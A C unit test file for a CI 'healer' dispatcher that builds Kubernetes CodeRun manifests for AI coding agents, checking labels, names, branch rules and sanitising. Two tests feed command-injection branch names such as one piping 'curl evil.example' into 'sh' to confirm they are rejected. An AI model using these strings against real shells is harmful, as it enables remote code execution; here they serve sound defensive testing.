/*
 * test_coderun.c - CodeRun building and dispatch (src/dispatch): required
 * fields and labels (contract section 7), deterministic names, target
 * branch rules, label value edge cases, heal runs (section 8), validation,
 * label selectors, and the directory/none dispatch modes.
 */
/* cmocka needs these first */
/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
/* clang-format on */

#include "base/str.h"
#include "dispatch/coderun.h"
#include "dispatch/dispatch.h"

#include "json/json.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct hl_coderun_spec
base_spec(void)
{
	struct hl_coderun_spec s;

	memset(&s, 0, sizeof(s));
	s.agent = "rex";
	s.failure_type = "rust_clippy";
	s.repository = "5dlabs/cto";
	s.branch = "feat/new-feature";
	s.head_sha = "0123456789abcdef0123";
	s.pr_number = 42;
	s.workflow_run_id = 9876543210;
	s.task_id = "ci-9876543210";
	s.attempt = 1;
	s.dedup_key = "5dlabs/cto#9876543210#lint-rust";
	s.prompt = "Fix clippy: {{not a template}} `code` <b>";
	s.cli = "Factory";
	s.model = "claude-opus-4-5-20250929";
	s.namespace = "cto";
	return s;
}

static bool
dns_label(const char *s)
{
	size_t i, n = strlen(s);

	if (n == 0 || n > 63 || s[0] == '-' || s[n - 1] == '-')
		return false;
	for (i = 0; i < n; i++)
		if (!((s[i] >= 'a' && s[i] <= 'z') || (s[i] >= '0' && s[i] <= '9') || s[i] == '-'))
			return false;
	return true;
}

static void
test_coderun_required_fields_and_labels(void **state)
{
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL;

	(void)state;
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	assert_string_equal(hl_json_str(m, "apiVersion"), "agents.platform/v1");
	assert_string_equal(hl_json_str(m, "kind"), "CodeRun");
	assert_string_equal(hl_json_str(m, "metadata.namespace"), "cto");
	assert_string_equal(hl_json_str(m, "spec.service"), "healer-ci");
	assert_string_equal(hl_json_str(m, "spec.repositoryUrl"), "https://github.com/5dlabs/cto");
	assert_string_equal(hl_json_str(m, "spec.docsRepositoryUrl"),
	                    "https://github.com/5dlabs/cto");
	assert_string_equal(hl_json_str(m, "spec.workingDirectory"), ".");
	assert_string_equal(hl_json_str(m, "spec.model"), "claude-opus-4-5-20250929");
	assert_string_equal(hl_json_str(m, "spec.githubApp"), "5DLabs-Rex");
	assert_string_equal(hl_json_str(m, "spec.promptModification"), s.prompt);
	assert_string_equal(hl_json_str(m, "spec.cliConfig.cliType"), "factory");
	assert_string_equal(hl_json_str(m, "spec.cliConfig.model"), "claude-opus-4-5-20250929");
	assert_true(json_is_object(hl_json_path(m, "spec.cliConfig.settings")));
	assert_string_equal(hl_json_str(m, "spec.env.HEALER_TASK_ID"), "ci-9876543210");
	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_TYPE"), "rust_clippy");
	assert_string_equal(hl_json_str(m, "spec.env.WORKFLOW_RUN_ID"), "9876543210");
	assert_string_equal(hl_json_str(m, "spec.env.PR_NUMBER"), "42");
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), "feat/new-feature");
	assert_string_equal(json_string_value(json_object_get(hl_json_path(m, "metadata.labels"),
	                                                      "app.kubernetes.io/name")),
	                    "healer");
	{
		json_t *l = hl_json_path(m, "metadata.labels");

		assert_string_equal(json_string_value(json_object_get(l, "healer/agent")), "rex");
		assert_string_equal(json_string_value(json_object_get(l, "healer/failure-type")),
		                    "rust_clippy");
		assert_string_equal(json_string_value(json_object_get(l, "healer/workflow-run-id")),
		                    "9876543210");
		assert_string_equal(json_string_value(json_object_get(l, "healer/branch")),
		                    "feat-new-feature");
		assert_string_equal(json_string_value(json_object_get(l, "healer/task-id")),
		                    "ci-9876543210");
		assert_string_equal(json_string_value(json_object_get(l, "healer/attempt")), "1");
	}
	json_decref(m);
}

static void
test_coderun_github_app_per_agent(void **state)
{
	static const char *const agents[][2] = { { "rex", "5DLabs-Rex" },
		                                 { "blaze", "5DLabs-Blaze" },
		                                 { "bolt", "5DLabs-Bolt" },
		                                 { "cipher", "5DLabs-Cipher" },
		                                 { "atlas", "5DLabs-Atlas" } };
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL;
	size_t i;

	(void)state;
	for (i = 0; i < 5; i++) {
		s.agent = agents[i][0];
		assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
		assert_string_equal(hl_json_str(m, "spec.githubApp"), agents[i][1]);
		assert_int_equal(hl_coderun_validate(m, &err), 0);
		json_decref(m);
	}
	s.agent = "pixel";
	assert_int_equal(hl_coderun_build(&m, &s, &err), -HL_EINVAL);
	assert_non_null(strstr(err.msg, "'pixel'"));
	s.agent = "rex";
	s.repository = "no-slash";
	assert_int_equal(hl_coderun_build(&m, &s, &err), -HL_EINVAL);
}

static void
test_coderun_name_deterministic_and_dns(void **state)
{
	char a[64], b[64], c[64], d[64];
	char longkey[600];

	(void)state;
	hl_coderun_name(a, "rex", "rust_clippy", "k1", 1);
	hl_coderun_name(b, "rex", "rust_clippy", "k1", 1);
	hl_coderun_name(c, "rex", "rust_clippy", "k2", 1);
	hl_coderun_name(d, "rex", "rust_clippy", "k1", 2);
	assert_string_equal(a, b);
	assert_string_not_equal(a, c);
	assert_string_not_equal(a, d);
	assert_true(hl_str_starts_with(a, "healer-rex-clippy-"));
	assert_int_equal(strlen(a), strlen("healer-rex-clippy-") + 10);
	assert_true(dns_label(a));
	memset(longkey, 'x', sizeof(longkey) - 1);
	longkey[sizeof(longkey) - 1] = '\0';
	hl_coderun_name(a, "ReX", "Some_Very_Long_Unknown_Failure_Type_Name_Here!!", longkey, 7);
	assert_true(dns_label(a));
	hl_coderun_name(a, "", "", "", 0);
	assert_true(dns_label(a));
}

static void
test_coderun_target_branch_rules(void **state)
{
	char out[48], name[300];

	(void)state;
	/* an open PR wins */
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "main", "main", "feat/x",
	                                             "rust_clippy", "0123456789ab"),
	                    "feat/x");
	/* a failure on main gets a fix branch named by the type and sha8 */
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "main", NULL, NULL,
	                                             "rust_clippy", "0123456789ab"),
	                    "fix/clippy-01234567");
	/* the repository's default branch counts the same */
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "develop", "develop", NULL,
	                                             "frontend_lint", "abcdef0123456"),
	                    "fix/eslint-abcdef01");
	/* otherwise the failing branch itself */
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "feat/new", "main", NULL,
	                                             "rust_test", "ff"),
	                    "feat/new");
	/* a name a shell or git would read as more (a fork chose it), also as
	 * a PR's head ref: a fix branch */
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out),
	                                             "zz\";curl${IFS}evil.example|sh;#", "main",
	                                             NULL, "rust_test", "0123456789ab"),
	                    "fix/rust-test-01234567");
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "main", "main", "a$(id)",
	                                             "rust_test", "0123456789ab"),
	                    "fix/rust-test-01234567");
	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "feat/..x", "main", NULL,
	                                             "rust_test", "0123456789ab"),
	                    "fix/rust-test-01234567");
	/* no branch at all: a fix branch */
	assert_string_equal(
	        hl_coderun_target_branch(out, sizeof(out), NULL, NULL, "", "general", NULL),
	        "fix/general-unknown");
	/* the longest generated name fits */
	assert_true(strlen(hl_coderun_target_branch(out, sizeof(out), NULL, NULL, NULL,
	                                            "an_unknown_type_with_a_very_long_name",
	                                            "0123456789ab")) < sizeof(out) - 1);
	/* a long branch is never cut (a cut name is another branch, and a cut
	 * inside a UTF-8 character is no JSON string) */
	memset(name, 'x', 254);
	memcpy(name + 254, "\xc3\xa9", 3);
	assert_string_equal(
	        hl_coderun_target_branch(out, sizeof(out), name, "main", NULL, "rust_test", "ff"),
	        name);
}

static void
test_coderun_long_branch_kept_whole(void **state)
{
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	char name[300];
	json_t *m = NULL;

	(void)state;
	/* 256 bytes ending in a two-byte character, as GitHub may send */
	memset(name, 'x', 254);
	memcpy(name + 254, "\xc3\xa9", 3);
	s.branch = name;
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), name);
	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), name);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	json_decref(m);
	/* a failing branch that is more than a name: no FAILURE_BRANCH, a fix
	 * branch to push to */
	s.branch = "x;curl evil.example|sh";
	s.head_sha = "0123456789ab";
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), "");
	assert_true(strncmp(hl_json_str(m, "spec.env.TARGET_BRANCH"), "fix/", 4) == 0);
	json_decref(m);
	/* a target given by the caller (a task's stored one) is kept whole too */
	s.branch = "main";
	s.target_branch = name;
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), name);
	json_decref(m);
}

static void
test_coderun_env_target_branch_on_main(void **state)
{
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL;

	(void)state;
	s.branch = "main";
	s.pr_number = 0;
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), "fix/clippy-01234567");
	/* no PR: the key is there (contract section 7) but empty, never "0" */
	assert_string_equal(hl_json_str(m, "spec.env.PR_NUMBER"), "");
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	json_decref(m);
	s.pr_number = -1;
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.env.PR_NUMBER"), "");
	json_decref(m);
}

/* An alert's CodeRun (no workflow run, no event branch): the run id is
 * empty in the env and the label, never "0"; the branch label is the
 * branch the fix goes to. */
static void
test_coderun_without_run_or_branch(void **state)
{
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL, *l;

	(void)state;
	s.failure_type = "security_dependabot";
	s.agent = "cipher";
	s.branch = NULL;
	s.pr_number = 0;
	s.workflow_run_id = 0;
	s.target_branch = "fix/dependabot-alert-5";
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	l = hl_json_path(m, "metadata.labels");
	assert_string_equal(hl_json_str(m, "spec.env.WORKFLOW_RUN_ID"), "");
	assert_string_equal(json_string_value(json_object_get(l, "healer/workflow-run-id")), "");
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), "fix/dependabot-alert-5");
	assert_string_equal(json_string_value(json_object_get(l, "healer/branch")),
	                    "fix-dependabot-alert-5");
	json_decref(m);
	/* an empty event branch is none too */
	s.branch = "";
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_string_equal(json_string_value(json_object_get(hl_json_path(m, "metadata.labels"),
	                                                      "healer/branch")),
	                    "fix-dependabot-alert-5");
	json_decref(m);
}

static void
test_coderun_label_values_sanitised(void **state)
{
	static const char *const branches[] = {
		"feature/ünïcödé//branch--name",
		"-leading-and-trailing-",
		"a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z/0/1/2/3/4/5/6/7/8/9",
		"___",
		"release/v1.2.3+build.7",
		"x",
	};
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(branches) / sizeof(branches[0]); i++) {
		const char *v;

		s.branch = branches[i];
		assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
		v = json_string_value(
		        json_object_get(hl_json_path(m, "metadata.labels"), "healer/branch"));
		assert_non_null(v);
		assert_true(hl_coderun_label_value_valid(v));
		assert_true(strlen(v) <= 63);
		assert_int_equal(hl_coderun_validate(m, &err), 0);
		/* the env keeps the real branch when it is a name git takes */
		assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"),
		                    hl_str_branch_safe(branches[i]) ? branches[i] : "");
		json_decref(m);
	}
}

static void
test_coderun_label_value_edge_cases(void **state)
{
	char v63[64], v64[65], out[64];

	(void)state;
	memset(v63, 'a', 63);
	v63[63] = '\0';
	memset(v64, 'a', 64);
	v64[64] = '\0';
	assert_true(hl_coderun_label_value_valid(""));
	assert_true(hl_coderun_label_value_valid("a"));
	assert_true(hl_coderun_label_value_valid("a_b.c-d"));
	assert_true(hl_coderun_label_value_valid(v63));
	assert_false(hl_coderun_label_value_valid(v64));
	assert_false(hl_coderun_label_value_valid("a-"));
	assert_false(hl_coderun_label_value_valid("-a"));
	assert_false(hl_coderun_label_value_valid("_a"));
	assert_false(hl_coderun_label_value_valid("a b"));
	assert_false(hl_coderun_label_value_valid("a/b"));
	/* what hl_str_label_value makes is always valid */
	hl_str_label_value(out, v64);
	assert_true(hl_coderun_label_value_valid(out));
	hl_str_label_value(out, "--..__");
	assert_string_equal(out, "");
	hl_str_label_value(out, "pod/name:with@odd#chars-");
	assert_true(hl_coderun_label_value_valid(out));
}

static void
test_coderun_heal_manifest(void **state)
{
	struct hl_heal_spec h;
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL, *l;

	(void)state;
	memset(&h, 0, sizeof(h));
	h.alert = "a7";
	h.task_id = "1234";
	h.issue_file = "/workspace/watch/alerts/A7-api-7d9f.md";
	h.prompt = "# Pod Failure: api-7d9f\n";
	h.target_pod = "api-7d9f/weird:name";
	h.repository = "acme/api";
	h.cli = "Claude";
	h.model = "claude-opus-4-5-20251101";
	h.namespace = "cto";
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	assert_null(hl_json_str(m, "metadata.name"));
	assert_string_equal(hl_json_str(m, "metadata.generateName"), "healer-remediation-a7-");
	l = hl_json_path(m, "metadata.labels");
	assert_string_equal(json_string_value(json_object_get(l, "alert-type")), "a7");
	assert_string_equal(json_string_value(json_object_get(l, "task-id")), "1234");
	assert_string_equal(json_string_value(json_object_get(l, "remediation")), "true");
	/* not a label value as it is: its label-safe head and a hash of it */
	assert_true(hl_str_starts_with(json_string_value(json_object_get(l, "target-pod")),
	                               "api-7d9f-weird-name-"));
	assert_int_equal(strlen(json_string_value(json_object_get(l, "target-pod"))),
	                 strlen("api-7d9f-weird-name-") + 10);
	assert_string_equal(json_string_value(json_object_get(l, "agents.platform/type")),
	                    "heal-remediation");
	assert_string_equal(hl_json_str(m, "spec.service"), "heal");
	assert_int_equal(hl_json_int(m, "spec.taskId", 0), 1234);
	assert_string_equal(hl_json_str(m, "spec.promptModification"), h.prompt);
	assert_string_equal(hl_json_str(m, "spec.env.HEAL_PROMPT_FILE"),
	                    "/workspace/alerts/A7-api-7d9f.md");
	assert_string_equal(hl_json_str(m, "spec.env.ALERT_TYPE"), "a7");
	assert_string_equal(hl_json_str(m, "spec.env.TASK_ID"), "1234");
	assert_string_equal(hl_json_str(m, "spec.env.REMEDIATION_MODE"), "true");
	assert_string_equal(hl_json_str(m, "spec.cliConfig.settings.template"), "heal/claude");
	assert_string_equal(
	        json_string_value(json_object_get(hl_json_path(m, "metadata.annotations"),
	                                          "healer/workspace-pvc")),
	        "heal-workspace");
	/* every label and env key of contract section 7, empty where it does
	 * not apply (before: a spawn-remediation run had none of them) */
	assert_string_equal(json_string_value(json_object_get(l, "app.kubernetes.io/name")),
	                    "healer");
	assert_string_equal(json_string_value(json_object_get(l, "healer/agent")), "rex");
	assert_string_equal(json_string_value(json_object_get(l, "healer/task-id")), "1234");
	assert_string_equal(json_string_value(json_object_get(l, "healer/attempt")), "1");
	assert_string_equal(json_string_value(json_object_get(l, "healer/failure-type")), "");
	assert_string_equal(json_string_value(json_object_get(l, "healer/workflow-run-id")), "");
	assert_string_equal(json_string_value(json_object_get(l, "healer/branch")), "");
	assert_string_equal(hl_json_str(m, "spec.env.HEALER_TASK_ID"), "1234");
	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_TYPE"), "");
	assert_string_equal(hl_json_str(m, "spec.env.WORKFLOW_RUN_ID"), "");
	assert_string_equal(hl_json_str(m, "spec.env.PR_NUMBER"), "");
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), "");
	assert_string_equal(hl_json_str(m, "spec.env.HEALER_ATTEMPT"), "1");
	json_decref(m);
	/* the alert flow's run: its attempt and failure type (a label value
	 * sanitised) */
	h.attempt = 2;
	h.failure_type = "pod_oom/killed";
	h.task_id = "task:a7/x";
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	l = hl_json_path(m, "metadata.labels");
	assert_string_equal(json_string_value(json_object_get(l, "healer/attempt")), "2");
	assert_true(hl_coderun_label_value_valid(
	        json_string_value(json_object_get(l, "healer/failure-type"))));
	assert_true(hl_str_starts_with(json_string_value(json_object_get(l, "healer/failure-type")),
	                               "pod_oom"));
	assert_true(hl_coderun_label_value_valid(
	        json_string_value(json_object_get(l, "healer/task-id"))));
	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_TYPE"), "pod_oom/killed");
	assert_string_equal(hl_json_str(m, "spec.env.HEALER_TASK_ID"), "task:a7/x");
	assert_string_equal(hl_json_str(m, "spec.env.HEALER_ATTEMPT"), "2");
	json_decref(m);
	/* a pod of another namespace: its namespace labelled, its files under
	 * the stem the heal flow gave them (before: no namespace anywhere, and
	 * same-named pods of two namespaces shared one run and one file) */
	h.target_pod = "web-1";
	h.target_namespace = "staging";
	h.file_stem = "staging_web-1";
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	l = hl_json_path(m, "metadata.labels");
	assert_string_equal(json_string_value(json_object_get(l, "target-pod")), "web-1");
	assert_string_equal(json_string_value(json_object_get(l, "target-namespace")), "staging");
	assert_string_equal(hl_json_str(m, "spec.env.HEAL_LOG_FILE"),
	                    "/workspace/logs/staging_web-1-current.log");
	assert_string_equal(json_string_value(json_object_get(
	                            hl_json_path(m, "metadata.annotations"), "healer/file-stem")),
	                    "staging_web-1");
	json_decref(m);
	h.target_namespace = NULL;
	h.file_stem = NULL;
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), 0);
	assert_null(json_object_get(hl_json_path(m, "metadata.labels"), "target-namespace"));
	assert_string_equal(hl_json_str(m, "spec.env.HEAL_LOG_FILE"),
	                    "/workspace/logs/web-1-current.log");
	json_decref(m);
	h.target_pod = "api-7d9f/weird:name";
	h.attempt = 0;
	h.failure_type = NULL;
	/* a non-numeric task id is hashed into the integer taskId */
	h.task_id = "task-abc";
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), 0);
	assert_true(json_is_integer(hl_json_path(m, "spec.taskId")));
	assert_true(hl_json_int(m, "spec.taskId", -1) >= 0);
	assert_string_equal(hl_json_str(m, "spec.repositoryUrl"), "https://github.com/acme/api");
	json_decref(m);
	/* no built-in repository (before: 5dlabs/cto) */
	h.repository = NULL;
	m = NULL;
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), -HL_EINVAL);
	assert_null(m);
	assert_non_null(strstr(err.msg, "repository"));
	h.repository = "";
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), -HL_EINVAL);
}

/* Two pod names that share their first 63 characters (a pod name may have
 * 253) get different target-pod labels; a valid label value stays as it is.
 * Before, both were cut to the same 63 characters: a remediation of one pod
 * blocked the other's, and the cut could end in '-'. */
static void
test_coderun_label_id_no_collision(void **state)
{
	char a[64], b[64], c[64], d[64], pa[128], pb[128];
	const char *base = "batch-import-worker-for-the-nightly-customer-reconciliation-job";

	(void)state;
	assert_int_equal(strlen(base), 63);
	snprintf(pa, sizeof(pa), "%s-pod-a", base);
	snprintf(pb, sizeof(pb), "%s-pod-b", base);
	hl_coderun_label_id(a, pa);
	hl_coderun_label_id(b, pb);
	assert_string_not_equal(a, b);
	assert_true(hl_coderun_label_value_valid(a));
	assert_true(hl_coderun_label_value_valid(b));
	assert_true(strlen(a) <= 63);
	hl_coderun_label_id(c, "api-7d9f");
	assert_string_equal(c, "api-7d9f");
	/* a cut that would end in '-' or '.' does not */
	hl_coderun_label_id(
	        d, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.-bbbbbbbbbbbbbbbbbbbb");
	assert_true(hl_coderun_label_value_valid(d));
	assert_true(hl_str_starts_with(d, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-"));
	hl_coderun_label_id(d, "---");
	assert_true(hl_coderun_label_value_valid(d));
	assert_int_equal(strlen(d), 10);
}

/* Text copied from a log: invalid UTF-8 becomes U+FFFD and NUL bytes are
 * dropped (not taken for the end of the prompt); before, the build failed
 * with "out of memory" and the prompt ended at the first NUL. */
static void
test_coderun_text_from_logs_repaired(void **state)
{
	static const char prompt[] = "head \xff\xc3( \xe2\x82 x\n\0tail: the error\n";
	struct hl_coderun_spec s = base_spec();
	struct hl_heal_spec h;
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL;

	(void)state;
	memset(&h, 0, sizeof(h));
	h.alert = "a7";
	h.task_id = "1234";
	h.issue_file = "/workspace/watch/alerts/A7-x.md";
	h.prompt = prompt;
	h.prompt_len = sizeof(prompt) - 1;
	h.target_pod = "pod-\xe9\xff";
	h.repository = "acme/api";
	h.model = "claude-opus-4-5-20251101";
	assert_int_equal(hl_coderun_build_heal(&m, &h, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.promptModification"),
	                    "head \xef\xbf\xbd\xef\xbf\xbd( \xef\xbf\xbd\xef\xbf\xbd x\n"
	                    "tail: the error\n");
	assert_string_equal(hl_json_str(m, "spec.env.TARGET_POD"), "pod-\xef\xbf\xbd\xef\xbf\xbd");
	json_decref(m);
	/* a CI run: an invalid branch or prompt never fails the manifest */
	s.prompt = "cut \xe2\x82";
	s.branch = "feat/\xc0\xaf";
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_int_equal(hl_coderun_validate(m, &err), 0);
	assert_string_equal(hl_json_str(m, "spec.promptModification"),
	                    "cut \xef\xbf\xbd\xef\xbf\xbd");
	/* a branch that is no valid UTF-8 is no name to push to or name */
	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), "");
	json_decref(m);
}

static void
test_coderun_validate_rejects(void **state)
{
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	json_t *m = NULL;

	(void)state;
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	json_object_del(json_object_get(m, "spec"), "model");
	assert_int_equal(hl_coderun_validate(m, &err), -HL_EINVAL);
	assert_non_null(strstr(err.msg, "spec.model"));
	json_decref(m);

	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	json_object_set_new(hl_json_path(m, "metadata.labels"), "healer/branch",
	                    json_string("feat/bad value"));
	assert_int_equal(hl_coderun_validate(m, &err), -HL_EINVAL);
	assert_non_null(strstr(err.msg, "healer/branch"));
	json_decref(m);

	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	json_object_set_new(hl_json_path(m, "spec.env"), "PR_NUMBER", json_integer(3));
	assert_int_equal(hl_coderun_validate(m, &err), -HL_EINVAL);
	json_decref(m);

	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	json_object_set_new(json_object_get(m, "spec"), "githubApp", json_string("Someone"));
	assert_int_equal(hl_coderun_validate(m, &err), -HL_EINVAL);
	json_decref(m);

	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	json_object_set_new(json_object_get(m, "metadata"), "name", json_string("Upper_Case"));
	assert_int_equal(hl_coderun_validate(m, &err), -HL_EINVAL);
	json_decref(m);
}

static void
test_coderun_selector_match(void **state)
{
	struct hl_err err = HL_ERR_INIT;
	json_t *l = json_pack("{s:s, s:s, s:s}", "alert-type", "a7", "remediation", "true",
	                      "target-pod", "api-1");
	bool m = false;

	(void)state;
#define SEL(s, want)                                                             \
	do {                                                                     \
		assert_int_equal(hl_dispatch_selector_match(&m, l, s, &err), 0); \
		assert_int_equal(m, want);                                       \
	} while (0)
	SEL("", true);
	SEL("alert-type=a7", true);
	SEL("alert-type==a7,remediation=true", true);
	SEL("alert-type=a8", false);
	SEL("alert-type!=a8", true);
	SEL("missing!=x", true);
	SEL("target-pod", true);
	SEL("!target-pod", false);
	SEL("!other", true);
	SEL("alert-type in (a1, a7)", true);
	SEL("alert-type notin (a1,a7)", false);
	SEL("alert-type in (a1,a2),remediation=true", false);
	SEL(" remediation = true , target-pod = api-1 ", true);
#undef SEL
	assert_int_equal(hl_dispatch_selector_match(&m, l, "a in b", &err), -HL_EINVAL);
	assert_int_equal(hl_dispatch_selector_match(&m, l, "a,,b", &err), -HL_EINVAL);
	json_decref(l);
}

static void
test_coderun_directory_dispatch(void **state)
{
	char dir[] = "/tmp/hl-coderuns-XXXXXX", path[512], name[64], name2[64];
	struct hl_coderun_spec s = base_spec();
	struct hl_err err = HL_ERR_INIT;
	struct hl_dispatch *d = NULL;
	enum hl_dispatch_outcome o;
	json_t *m = NULL, *active = NULL, *got = NULL;
	struct stat st;

	(void)state;
	assert_non_null(mkdtemp(dir));
	assert_int_equal(hl_dispatch_open_with(&d, HL_DISPATCH_DIRECTORY, dir, "cto", NULL, &err),
	                 0);
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_int_equal(hl_dispatch_submit(d, &o, name, m, &err), 0);
	assert_int_equal(o, HL_DISPATCH_CREATED);
	snprintf(path, sizeof(path), "%s/%s.json", dir, name);
	assert_int_equal(stat(path, &st), 0);
	/* the same CodeRun again is idempotent */
	assert_int_equal(hl_dispatch_submit(d, &o, name2, m, &err), 0);
	assert_int_equal(o, HL_DISPATCH_EXISTING);
	assert_string_equal(name, name2);
	json_decref(m);

	assert_int_equal(
	        hl_dispatch_find_active(d, &active, "healer/workflow-run-id=9876543210", &err), 0);
	assert_int_equal(json_array_size(active), 1);
	json_decref(active);
	assert_int_equal(hl_dispatch_find_active(d, &active, "healer/agent=bolt", &err), 0);
	assert_int_equal(json_array_size(active), 0);
	json_decref(active);

	assert_int_equal(hl_dispatch_set_status(d, name, "Succeeded", "merged", &err), 0);
	assert_int_equal(hl_dispatch_get(d, &got, name, &err), 0);
	assert_string_equal(hl_json_str(got, "status.phase"), "Succeeded");
	json_decref(got);
	assert_int_equal(hl_dispatch_find_active(d, &active, "app.kubernetes.io/name=healer", &err),
	                 0);
	assert_int_equal(json_array_size(active), 0);
	json_decref(active);
	assert_int_equal(hl_dispatch_list(d, &active, "app.kubernetes.io/name=healer", &err), 0);
	assert_int_equal(json_array_size(active), 1);
	assert_string_equal(hl_json_str(json_array_get(active, 0), "status.phase"), "Succeeded");
	json_decref(active);
	assert_int_equal(hl_dispatch_get(d, &got, "nope", &err), -HL_ENOTFOUND);
	hl_dispatch_close(d);

	/* none: named and validated, nothing written */
	assert_int_equal(hl_dispatch_open_with(&d, HL_DISPATCH_NONE, NULL, "cto", NULL, &err), 0);
	s.dedup_key = "another";
	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
	assert_int_equal(hl_dispatch_submit(d, &o, name, m, &err), 0);
	assert_int_equal(o, HL_DISPATCH_DRY_RUN);
	snprintf(path, sizeof(path), "%s/%s.json", dir, name);
	assert_int_not_equal(stat(path, &st), 0);
	json_decref(m);
	hl_dispatch_close(d);

	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	assert_int_equal(system(path), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_coderun_required_fields_and_labels),
		cmocka_unit_test(test_coderun_github_app_per_agent),
		cmocka_unit_test(test_coderun_name_deterministic_and_dns),
		cmocka_unit_test(test_coderun_target_branch_rules),
		cmocka_unit_test(test_coderun_long_branch_kept_whole),
		cmocka_unit_test(test_coderun_env_target_branch_on_main),
		cmocka_unit_test(test_coderun_without_run_or_branch),
		cmocka_unit_test(test_coderun_label_values_sanitised),
		cmocka_unit_test(test_coderun_label_value_edge_cases),
		cmocka_unit_test(test_coderun_heal_manifest),
		cmocka_unit_test(test_coderun_text_from_logs_repaired),
		cmocka_unit_test(test_coderun_label_id_no_collision),
		cmocka_unit_test(test_coderun_validate_rejects),
		cmocka_unit_test(test_coderun_selector_match),
		cmocka_unit_test(test_coderun_directory_dispatch),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
